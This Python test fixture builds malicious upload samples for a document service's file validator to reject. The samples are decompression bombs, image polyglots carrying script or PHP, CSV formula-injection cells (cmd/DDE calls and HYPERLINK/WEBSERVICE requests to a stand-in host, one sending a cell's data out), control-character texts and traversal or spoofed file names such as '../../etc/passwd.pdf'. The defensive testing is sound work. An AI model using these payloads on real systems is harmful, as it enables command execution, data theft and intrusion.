"""Pictures and texts made to do harm, and names that do, each with why it is refused."""

import io
import struct
import zlib
from collections.abc import Callable, Mapping

from PIL import Image

from services.documents.files.domain.flaws import Flaw
from tests.corpora.honest import photo, workbook, zipped

Made = tuple[str, Callable[[], bytes], Flaw]


def _chunk(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def _png(width: int, height: int, *before: bytes, body: bytes = b"") -> bytes:
    head = _chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + b"".join(before) + _chunk(b"IDAT", zlib.compress(body)) + _chunk(b"IEND", b"")


def _sized(content: bytes, width: int, height: int) -> bytes:
    """A JPEG that claims another size."""
    at = content.index(b"\xff\xc0")
    return content[: at + 5] + struct.pack(">HH", height, width) + content[at + 9 :]


def _flat(width: int, height: int) -> bytes:
    """A picture of one colour: few bytes, many points."""
    made = io.BytesIO()
    Image.new("L", (width, height)).save(made, "PNG")
    return made.getvalue()


def _said(content: bytes) -> Callable[[], bytes]:
    return lambda: content


PICTURES: Mapping[str, Made] = {
    "PNG that claims 3.6 billion points": ("a.png", lambda: _png(60_000, 60_000), Flaw.PIXELS),
    "PNG that claims more than there are numbers for": ("a.png", lambda: _png(2**31 - 1, 2**31 - 1), Flaw.PIXELS),
    "PNG that has 144 million points": ("a.png", lambda: _flat(12_000, 12_000), Flaw.PIXELS),
    "JPEG that claims 4 billion points": ("a.jpg", lambda: _sized(photo(), 65_500, 65_500), Flaw.PIXELS),
    "PNG with text that unpacks without end": (
        "a.png", lambda: _png(9, 9, _chunk(b"zTXt", b"a\0\0" + zlib.compress(bytes(200 << 20)))), Flaw.DAMAGED,
    ),
    "PNG whose points are missing": ("a.png", lambda: _png(900, 900), Flaw.DAMAGED),
    "PNG with a false sum": ("a.png", lambda: photo(90, 90, "PNG").replace(b"IDAT", b"IDAU", 1), Flaw.DAMAGED),
    **{
        f"{form} cut off after {part} of 10 parts": (
            f"a.{form.lower()}", lambda form=form, part=part: photo(form=form)[: len(photo(form=form)) * part // 10],
            Flaw.DAMAGED,
        )
        for form in ("JPEG", "PNG")
        for part in (1, 5, 9)
    },
    "JPEG that is also a ZIP": ("a.jpg", lambda: photo() + zipped({"a.jar": b"x"}), Flaw.TWO_KINDS),
    "PNG that is also a ZIP": ("a.png", lambda: photo(form="PNG") + zipped({"a.jar": b"x"}), Flaw.TWO_KINDS),
    "PNG that is also a workbook": ("a.png", lambda: photo(form="PNG") + workbook(), Flaw.TWO_KINDS),
    "PNG with a script in its head": (
        "a.png", lambda: _png(9, 9, _chunk(b"tEXt", b"a\0<script>x()</script>")), Flaw.TWO_KINDS,
    ),
    "PNG with PHP in its head": ("a.png", lambda: _png(9, 9, _chunk(b"tEXt", b"a\0<?php x(); ?>")), Flaw.TWO_KINDS),
    "JPEG with a page in its head": ("a.jpg", lambda: photo(comment=b"<html><body onload=x()>"), Flaw.TWO_KINDS),
}  # fmt: skip

TEXTS: Mapping[str, Made] = {
    **{
        f"value {cell}": ("a.csv", _said(f"No;Nama\r\n1;{cell}\r\n".encode()), Flaw.COMMAND)
        for cell in (
            "=cmd|'/C calc'!A0", '"=cmd|\'/C calc\'!A0"', "+cmd|'/C calc'!A0", "-2+3+cmd|'/C calc'!A0", "@SUM|x!A0",
            "=MSEXCEL|'\\..\\..\\cmd.exe'!''", '=HYPERLINK("http://contoh.invalid?a="&A1)',
            '=WEBSERVICE("http://contoh.invalid")', '=IMPORTXML("http://contoh.invalid","//a")',
            "=DDE(\"cmd\";\"/C calc\";\"x\")", "  =cmd|x!A0",
        )
    },
    **{
        f"text with {what}": ("a.txt", _said(b"a" * 9000 + letter.encode() + b"b"), Flaw.CONTROLS)
        for what, letter in {
            "NUL": "\0", "a terminal's orders": "\x1b]0;x\x07", "backspace": "\b", "delete": "\x7f",
            "letters from right to left": "\u202e", "isolated letters": "\u2066", "C1 controls": "\x9b",
        }.items()
    },
    "text in another encoding further on": ("a.txt", _said(b"a" * 9000 + b"\xe9\xff"), Flaw.DAMAGED),
}  # fmt: skip

# Refused before anything is kept: by the first bytes, or by the name itself.
WRONG: Mapping[str, tuple[str, bytes]] = {
    "nothing": ("a.pdf", b""),
    "web page called text": ("a.txt", b"<!DOCTYPE html><script>x()</script>"),
    "drawing with a script": ("a.txt", b"<svg onload='x()'>"),
    "program called PDF": ("a.pdf", b"MZ\x90\0" + bytes(99)),
    "program called text": ("a.txt", b"MZ\x90\0" + bytes(99)),
    "archive called PDF": ("a.pdf", zipped({"a": b"a"})),
    "old Office file": ("a.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(99)),
    "picture called PDF": ("a.pdf", b"\x89PNG\r\n\x1a\n" + bytes(50)),
    "PDF called picture": ("a.png", b"%PDF-1.7\n"),
    "film": ("a.jpg", b"\0\0\0\x18ftypmp42" + bytes(50)),
    "animated picture": ("a.png", b"GIF89a" + bytes(50)),
    "TIFF for files over 4 GB": ("a.tif", b"II+\0\x08\0\0\0\x10" + bytes(64)),
    "TIFF called JPEG": ("a.jpg", b"II*\0\x08\0\0\0" + bytes(64)),
    "RAR called docx": ("a.docx", b"Rar!\x1a\x07\0" + bytes(50)),
    "text in Latin-1": ("a.txt", b"caf\xe9 lagi"),
    "text in UTF-16": ("a.txt", "halo".encode("utf-16")),
    "PDF not at the beginning": ("a.pdf", b"<html>%PDF-1.7\n"),
    **{
        f"a file of the kind {ending}": (f"a.{ending}", b"x")
        for ending in ("exe", "zip", "html", "svg", "docm", "xlsm", "js", "lnk", "iso", "pdf.exe", "doc", "heic")
    },
    "no ending": ("berkas", b"x"),
    "nothing but an ending": (".pdf", b"%PDF-1.7"),
}
NAMES: Mapping[str, str] = {
    "NUL": "a\0.pdf", "from right to left": "a\u202efdp.exe.pdf", "500 letters": "a" * 496 + ".pdf", "none": "  ",
    "a way out": "../../etc/passwd.pdf", "a Windows way out": "..\\..\\a.pdf", "line break": "a\r\nX: y.pdf",
    "no width": "a\u200b.pdf", "half a letter": "a\ud800.pdf", "private use": "a\ue000.pdf",
    "soft hyphen": "a\u00ad.pdf",
}  # fmt: skip
